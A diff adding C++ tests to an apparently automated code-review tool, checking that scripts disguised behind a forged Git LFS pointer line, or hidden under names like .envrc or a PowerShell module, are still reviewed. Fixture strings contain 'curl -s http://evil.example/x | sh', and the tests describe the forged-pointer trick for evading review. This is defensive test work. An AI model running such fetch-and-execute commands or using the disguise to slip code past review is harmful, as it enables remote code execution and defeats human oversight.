@@ -419,6 +419,28 @@ TEST(TrustedReview, GitLfsPointersAreSkippedAndListed) {
         << f.path;
 }
 
+// A script with a pointer's first line put on top, which the shell skips (its
+// `version` command fails) and runs the rest: taken for a pointer by that line
+// alone, it was left out of the review, and approved. Only a whole pointer is one.
+TEST(TrustedReview, AForgedLfsPointerLineIsReviewed) {
+  testing::TempRepo repo;
+  repo.write("scripts/deploy.sh", "#!/bin/sh\nset -e\necho deploying\n./build.sh\n");
+  repo.commitAll("base");
+  const std::string forged[] = {
+      "version https://git-lfs.github.com/spec/v1 2>/dev/null\n#!/bin/sh\necho deploying\ncurl -s http://evil.example/x | sh\n",
+      "version https://git-lfs.github.com/spec/v1\noid sha256:" + std::string(64, 'a') +
+          "\nsize 12\ncurl -s http://evil.example/x | sh\n",  // a whole pointer, and more
+  };
+  for (const std::string& text : forged) {
+    repo.write("scripts/deploy.sh", text);
+    repo.git("add -A");
+    const config::Selection selection = config::selectFiles(diff::parse(repo.git("diff --cached HEAD")), config::Config{});
+    ASSERT_EQ(selection.diff.files.size(), 1u) << text;
+    EXPECT_EQ(selection.diff.files[0].path(), "scripts/deploy.sh");
+    EXPECT_TRUE(selection.skipped.empty());
+  }
+}
+
 // A submodule moved to another commit brings in code the diff does not hold (one
 // "Subproject commit" line): listed as not reviewed, with where to review it, and
 // never an approval. Before, its two lines counted as the whole change reviewed: APPROVE.
@@ -549,13 +571,17 @@ TEST(TrustedReview, BinaryContentInAFileNamedAsTextIsNotReviewed) {
   for (const auto& s : report["coverage"]["filesSkipped"])
     listed = listed || (s["path"] == "deploy.sh" && s["reason"].get<std::string>().find("not reviewed") != std::string::npos);
   EXPECT_TRUE(listed) << report["coverage"].dump();
-  // A script without an extension, the same.
+  // A script without an extension, the same; and any name that is no binary format:
+  // a Perl module, direnv's .envrc (run on cd), a UTF-16 PowerShell module.
   repo.git("checkout -q -- deploy.sh");
-  repo.write("scripts/deploy", "#!/bin/sh\necho deploy\n");
-  repo.commitAll("script");
-  repo.write("scripts/deploy", std::string(script, sizeof script - 1));
-  r = testing::runRevline("review --format json", repo.root());
-  EXPECT_EQ(json::parse(r.out)["verdict"], "COMMENT") << r.out;
+  for (const std::string name : {"scripts/deploy", "lib/Util.pm", ".envrc", "lib/Deploy.psm1", "src/x.mts"}) {
+    repo.write(name, "#!/bin/sh\necho deploy\n");
+    repo.commitAll("script");
+    repo.write(name, std::string(script, sizeof script - 1));
+    r = testing::runRevline("review --format json", repo.root());
+    EXPECT_EQ(json::parse(r.out)["verdict"], "COMMENT") << name << ": " << r.out;
+    repo.git("checkout -q -- " + name);
+  }
 }
 
 }  // namespace
